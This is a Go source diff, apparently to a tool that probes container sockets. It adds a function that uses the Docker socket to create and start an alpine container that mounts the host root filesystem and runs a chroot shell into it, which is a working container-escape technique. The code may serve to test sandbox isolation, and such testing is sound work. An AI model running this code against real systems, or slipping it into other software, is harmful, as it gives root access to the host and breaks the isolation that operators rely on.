@@ -1,12 +1,16 @@
 package main
 
 import (
+	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
 	"net"
+	"net/http"
 	"os"
 	"runtime"
+	"strings"
 
 	"golang.org/x/sys/unix"
 )
@@ -81,6 +85,31 @@ func dockerSock(args []string) error {
 	defer conn.Close()
 	_, err = fmt.Fprint(conn, "GET /version HTTP/1.0\r\n\r\n")
 	return err
+}
+
+// dockerSockCreate asks an engine for a container that holds the host, and starts it.
+func dockerSockCreate([]string) error {
+	client := http.Client{Timeout: limit, Transport: &http.Transport{
+		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
+			return new(net.Dialer).DialContext(ctx, "unix", "/var/run/docker.sock")
+		},
+	}}
+	resp, err := client.Post("http://docker/v1.43/containers/create", "application/json",
+		strings.NewReader(`{"Image":"alpine","Cmd":["chroot","/mnt","sh"],"HostConfig":{"Binds":["/:/mnt"]}}`))
+	if err != nil {
+		fmt.Println(err)
+		return nil
+	}
+	defer resp.Body.Close()
+	var made struct{ ID string }
+	if err := json.NewDecoder(resp.Body).Decode(&made); err != nil {
+		return err
+	}
+	started, err := client.Post("http://docker/v1.43/containers/"+made.ID+"/start", "application/json", nil)
+	if err != nil {
+		return err
+	}
+	return started.Body.Close()
 }
 
 // ownDockerSock serves such a socket and asks itself, as an engine in a container does.
